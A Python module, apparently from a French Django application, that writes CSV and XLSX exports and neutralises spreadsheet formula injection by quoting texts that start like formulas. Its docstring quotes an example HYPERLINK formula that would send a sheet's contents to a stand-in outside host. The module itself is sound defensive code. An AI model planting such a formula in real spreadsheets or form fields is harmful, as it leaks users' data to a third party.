"""The one writer of every CSV and XLSX file the product makes.

A text typed by a visitor (a raison sociale, an evaluator's comment, a motif) may start like a
spreadsheet formula: ``=HYPERLINK("http://x.example/?d="&A1,"…")`` would become a live link
that sends the sheet's content away, ``=1+1`` would be computed. Every text cell is therefore
neutralised here (OWASP « CSV injection »): in a CSV a text starting with = + - @, a tab or a
carriage return gets a leading single quote; in an XLSX every text is written as a string cell
(never a formula) and such a text also carries Excel's quote prefix, so that it is shown exactly
as typed and stays text once edited. Numbers stay numbers.

CSV files are UTF-8 with a BOM, « ; »-separated, French decimals, dates in Europe/Paris.

An XLSX is ready to use in a French office: numbers are number cells with a number format (integers
``0``, decimals ``0.00``, money ``MONEY``, or the format a caller gives a column), dates are date
cells shown dd/mm/yyyy (date and time in Europe/Paris), the header row is bold, frozen and filtered,
and each column is as wide as its longest value (between MIN_WIDTH and MAX_WIDTH, long texts wrap).
Excel and LibreOffice show ``#,##0.00`` with the reader's separators: « 12 096,00 € » in French.
"""

import csv
import datetime
import decimal
import io

from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

INTEGER, DECIMAL, MONEY, PERCENT = "0", "0.00", '#,##0.00\\ "€"', "0\\ %"
DATE, DATE_TIME = "dd/mm/yyyy", "dd/mm/yyyy hh:mm"
MIN_WIDTH, MAX_WIDTH = 8, 60


def starts_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def _csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if hasattr(value, "tzinfo"):
        return timezone.localtime(value).strftime("%d/%m/%Y %H:%M:%S")
    if isinstance(value, str):
        return "'" + value if starts_a_formula(value) else value
    return str(value).replace(".", ",")


def csv_bytes(header, rows) -> bytes:
    """A CSV file of `header` and `rows` (texts neutralised, numbers with a decimal comma)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow([_csv_cell(v) for v in header])
    for row in rows:
        writer.writerow([_csv_cell(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def _xlsx_value(value):
    """The value as openpyxl writes it, and the number format it gets unless the column has one."""
    if value is None or value == "":
        return None, None
    if isinstance(value, bool):
        return ("oui" if value else "non"), None
    if isinstance(value, datetime.datetime):
        if value.tzinfo is not None:
            value = timezone.localtime(value).replace(tzinfo=None)
        return value, DATE_TIME
    if isinstance(value, datetime.date):
        return value, DATE
    if isinstance(value, int):
        return value, INTEGER
    if isinstance(value, (float, decimal.Decimal)):
        return float(value), DECIMAL
    return str(value), None


def _shown_width(value, number_format) -> int:
    if value is None:
        return 0
    if isinstance(value, datetime.datetime):
        return 16
    if isinstance(value, datetime.date):
        return 10
    if isinstance(value, float):
        return len(f"{value:,.2f}") + (2 if number_format == MONEY else 0)
    return max(len(line) for line in str(value).splitlines() or [""])


def xlsx_bytes(*, title: str, header, rows, formats=None) -> bytes:
    """An XLSX workbook of one sheet: texts are string cells, never formulas; numbers are numbers.

    `formats` maps a column index (from 0) to its number format (MONEY, PERCENT…)."""
    from openpyxl import Workbook  # late: heavy, and only needed for XLSX files
    from openpyxl.styles import Alignment, Font  # late: heavy, XLSX only
    from openpyxl.utils import get_column_letter  # late: heavy, XLSX only

    formats = formats or {}
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    widths = [0] * len(header)
    bold, wrap = Font(bold=True), Alignment(wrap_text=True, vertical="top")
    for row_number, row in enumerate([header, *rows], start=1):
        for column, raw in enumerate(row, start=1):
            value, number_format = _xlsx_value(raw)
            cell = sheet.cell(row=row_number, column=column, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
                cell.quotePrefix = starts_a_formula(value)
                if len(value) > MAX_WIDTH or "\n" in value:
                    cell.alignment = wrap
            elif value is not None and row_number > 1:
                number_format = formats.get(column - 1, number_format)
                cell.number_format = number_format
            if row_number == 1:
                cell.font = bold
            if column <= len(widths):
                widths[column - 1] = max(widths[column - 1], _shown_width(value, number_format))
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = min(max(width, MIN_WIDTH), MAX_WIDTH) + 2
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = f"A1:{get_column_letter(max(len(header), 1))}{max(sheet.max_row, 1)}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
